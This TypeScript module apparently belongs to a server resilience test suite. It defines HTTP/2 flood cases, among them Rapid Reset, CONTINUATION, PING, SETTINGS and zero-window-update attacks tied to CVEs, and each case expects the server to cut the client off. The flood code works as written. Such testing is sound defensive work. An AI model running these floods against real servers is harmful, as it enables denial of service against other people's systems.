import { type Attack, type Bounds, mebibyte, type Target } from "../attack.ts";
import {
  ackFlag,
  endHeaders,
  endStream,
  firstHead,
  frame,
  nextHead,
  preface,
  rememberedField,
  uint32,
} from "../wire/http2-frames.ts";
import { RawConnection } from "../wire/raw-connection.ts";

const connectPath = "/streamserver.v1.RelayService/Connect";
const cancel = uint32(8);
const none = new Uint8Array();
/** Bytes in one write. */
const pieceBytes = 65_536;

/** The bounds of the floods of frames. */
const floodBounds: Bounds = { cutOffMs: 2_000, peakBytes: 10 * mebibyte, roundTripMs: 250, turnMs: 50 };

async function openHttp2(target: Target, isReading = true): Promise<RawConnection> {
  const raw = await RawConnection.open(target, "h2");
  if (isReading) raw.read();
  await raw.write(Buffer.concat([preface, frame("settings", 0, 0, none), frame("settings", 0, ackFlag, none)]));
  return raw;
}

/** Floods a connection with one piece of bytes again and again. */
async function repeat(target: Target, bytes: Buffer, amount: number, isReading = true, first?: Buffer) {
  const raw = await openHttp2(target, isReading);
  if (first !== undefined) await raw.write(first);
  const each = Math.max(1, Math.floor(pieceBytes / bytes.byteLength));
  const piece = Buffer.concat(Array.from({ length: each }, () => bytes));
  return raw.flood(target, (number) => (number * each < amount ? piece : undefined));
}

/**
 * Sends a frame that is answered, again and again, and reads the answers before it goes on. Node itself cuts off a
 * client that sends 1,000 of them before.
 */
async function askAgain(target: Target, bytes: Buffer, answerBytes: number, amount: number) {
  const raw = await openHttp2(target);
  const each = 250;
  const piece = Buffer.concat(Array.from({ length: each }, () => bytes));
  return raw.flood(target, async (number) => {
    // The first answers may come behind the head of the connection.
    while (!raw.isClosed && raw.socket.bytesRead < number * each * answerBytes) await raw.heard();
    return number * each < amount ? piece : undefined;
  });
}

/** Opens streams in a row, with what `after` makes behind each head. */
async function openStreams(target: Target, amount: number, after: (stream: number) => Uint8Array, flags = endHeaders) {
  const raw = await openHttp2(target);
  const each = 2_000;
  return raw.flood(target, (number) => {
    const from = number * each;
    if (from >= amount) return undefined;
    return Buffer.concat(
      Array.from({ length: Math.min(each, amount - from) }, (_, at) => {
        const stream = 2 * (from + at) + 1;
        const head = from + at === 0 ? firstHead(connectPath) : nextHead;
        return Buffer.concat([frame("headers", stream, flags, head), after(stream)]);
      }),
    );
  });
}

const reset = (stream: number) => frame("rstStream", stream, 0, cancel);
const open = (stream: number) => frame("headers", stream, endHeaders, firstHead(connectPath));

export const rapidReset: Attack = {
  name: "rapid reset",
  about: "opens calls on one connection of HTTP/2 and resets each at once (CVE-2023-44487)",
  bare: "node:http2",
  amount: { short: 20_000, long: 200_000 },
  expected: "cut off",
  bounds: { ...floodBounds, cutOffMs: 1_000, peakBytes: 32 * mebibyte, turnMs: 150 },
  run: (target, amount) => openStreams(target, amount, reset),
};

export const http2Floods: readonly Attack[] = [
  rapidReset,
  {
    ...rapidReset,
    name: "rapid reset beside a call",
    about: "has one call open while it opens others and resets each at once, and goes on when it is told to go",
    run: (target, amount) => openStreams(target, amount, (stream) => (stream === 1 ? none : reset(stream))),
  },
  {
    ...rapidReset,
    name: "short rapid reset",
    about: "opens and resets calls on one connection, fewer than Node allows by itself",
    amount: { short: 600, long: 600 },
  },
  {
    name: "made to reset",
    about: "opens calls and has the server reset each, with a WINDOW_UPDATE of zero (CVE-2025-8671)",
    bare: "node:http2",
    amount: { short: 20_000, long: 200_000 },
    expected: "cut off",
    bounds: floodBounds,
    run: (target, amount) => openStreams(target, amount, (stream) => frame("windowUpdate", stream, 0, uint32(0))),
  },
  {
    name: "CONTINUATION",
    about: "sends a head that never ends, in pieces (CVE-2024-27316)",
    bare: "node:http2",
    amount: { short: 100_000, long: 1_000_000 },
    expected: "cut off",
    bounds: floodBounds,
    run: (target, amount) =>
      repeat(
        target,
        frame("continuation", 1, 0, rememberedField("x", "y")),
        amount,
        true,
        frame("headers", 1, 0, firstHead(connectPath)),
      ),
  },
  {
    name: "empty CONTINUATION",
    about: "sends a head that never ends, in pieces of no bytes",
    bare: "node:http2",
    amount: { short: 100_000, long: 1_000_000 },
    expected: "cut off",
    bounds: floodBounds,
    run: (target, amount) =>
      repeat(target, frame("continuation", 1, 0, none), amount, true, frame("headers", 1, 0, firstHead(connectPath))),
  },
  {
    name: "PING",
    about: "sends PINGs and reads the answers (CVE-2019-9512)",
    bare: "node:http2",
    amount: { short: 100_000, long: 1_000_000 },
    expected: "cut off",
    bounds: floodBounds,
    run: (target, amount) => askAgain(target, frame("ping", 0, 0, Buffer.alloc(8)), 17, amount),
  },
  {
    name: "PING, unread",
    about: "sends PINGs and reads no answers",
    bare: "node:http2",
    amount: { short: 1_000_000, long: 10_000_000 },
    expected: "cut off",
    bounds: floodBounds,
    run: (target, amount) => repeat(target, frame("ping", 0, 0, Buffer.alloc(8)), amount, false),
  },
  {
    name: "SETTINGS",
    about: "sends SETTINGS and reads the answers (CVE-2019-9515)",
    bare: "node:http2",
    amount: { short: 100_000, long: 1_000_000 },
    expected: "cut off",
    bounds: floodBounds,
    run: (target, amount) => askAgain(target, frame("settings", 0, 0, none), 9, amount),
  },
  {
    name: "SETTINGS, unread",
    about: "sends SETTINGS and reads no answers",
    bare: "node:http2",
    amount: { short: 1_000_000, long: 10_000_000 },
    expected: "cut off",
    bounds: floodBounds,
    run: (target, amount) => repeat(target, frame("settings", 0, 0, none), amount, false),
  },
  {
    name: "WINDOW_UPDATE",
    about: "widens the windows of the connection and of a call by one byte, again and again",
    bare: "node:http2",
    amount: { short: 5_000_000, long: 50_000_000 },
    expected: "cut off",
    bounds: floodBounds,
    run: (target, amount) =>
      repeat(
        target,
        Buffer.concat([frame("windowUpdate", 0, 0, uint32(1)), frame("windowUpdate", 1, 0, uint32(1))]),
        amount,
        true,
        open(1),
      ),
  },
  {
    name: "PRIORITY",
    about: "sends PRIORITY for calls that never come",
    bare: "node:http2",
    amount: { short: 1_000_000, long: 10_000_000 },
    expected: "cut off",
    bounds: floodBounds,
    run: (target, amount) => repeat(target, frame("priority", 1, 0, Buffer.alloc(5, 1)), amount),
  },
  {
    name: "unknown frames",
    about: "sends frames of a type that there is none of",
    bare: "node:http2",
    amount: { short: 1_000_000, long: 10_000_000 },
    expected: "cut off",
    bounds: floodBounds,
    run: (target, amount) => repeat(target, frame(0xf0, 0, 0, none), amount),
  },
  {
    name: "empty DATA",
    about: "sends pieces of no bytes on a call (CVE-2019-9518)",
    bare: "node:http2",
    amount: { short: 1_000_000, long: 10_000_000 },
    expected: "cut off",
    bounds: floodBounds,
    run: (target, amount) => repeat(target, frame("data", 1, 0, none), amount, true, open(1)),
  },
  {
    name: "a frame of 16 MiB",
    about: "announces a frame that is larger than the server takes, and sends it",
    bare: "node:http2",
    amount: { short: 256, long: 256 },
    expected: "cut off",
    bounds: floodBounds,
    run: (target, amount) => {
      const piece = Buffer.alloc(pieceBytes);
      const head = frame("data", 1, endStream, none);
      head.writeUIntBE(0xff_ff_ff, 0, 3);
      return repeat(target, piece, amount, true, Buffer.concat([open(1), head]));
    },
  },
];
